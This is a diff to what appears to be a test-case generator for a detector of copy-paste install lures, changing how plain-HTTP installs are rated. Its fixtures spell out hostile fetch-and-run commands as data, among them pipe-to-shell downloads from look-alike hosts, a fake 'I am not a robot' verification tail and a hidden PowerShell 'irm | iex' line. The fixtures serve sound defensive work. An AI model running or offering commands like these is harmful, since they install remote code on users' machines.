@@ -16,8 +16,8 @@ Principles:
   site of its own; a project's docs there serving its own install script from that very site
   are one owner speaking. Look-alikes: another tenant of the same suffix, a stranger's host, a
   known publisher's name as a tenant, a fake check page, a borrowed company name with bait
-  words, a page about something else, plain HTTP, a lure tail, tunnels and paste sites (no
-  project keeps its site there), the Run box.
+  words, a page about something else, plain HTTP (a warning, never a block: make_b6benign.py),
+  a lure tail, tunnels and paste sites (no project keeps its site there), the Run box.
 - `short-link`: a short link hides where the script comes from. The project's own page (its
   repository page, its own site) handing out a short link named after the project is the
   project's choice (info); a tutorial, a question or a forum quoting it gets a warning, never a
@@ -125,7 +125,7 @@ def tenant_sites() -> list[dict[str, str]]:
         lure("tenant-bait-1", pipe.format("https://teams-meeting-audio.vercel.app/fix.sh"), "malicious", "T1204.004", "macos", "https://teams-meeting-audio.vercel.app/"),
         lure("tenant-bait-2", pipe.format("https://chrome-update-fix.web.app/u.sh"), "malicious", "T1204.004", "macos", "https://chrome-update-fix.web.app/"),
         # the same site, but plain HTTP, or with a lure's tail or a hidden window
-        lure("tenant-http-1", pipe.format("http://loamdb.pages.dev/install.sh"), "malicious", "T1105", "linux", docs),
+        lure("tenant-http-1", pipe.format("http://loamdb.pages.dev/install.sh"), "suspicious", "T1105", "linux", docs),
         lure("tenant-tail-1", pipe.format("https://loamdb.pages.dev/install.sh") + " # I am not a robot - verification ID 4471", "malicious", "T1204.004", "macos", docs),
         lure("tenant-hidden-1", 'powershell -w hidden -c "irm https://pellet.web.app/install.ps1 | iex"', "malicious", "T1204.004", "windows", "https://pellet.web.app/"),
         # tunnels and paste sites are nobody's project site
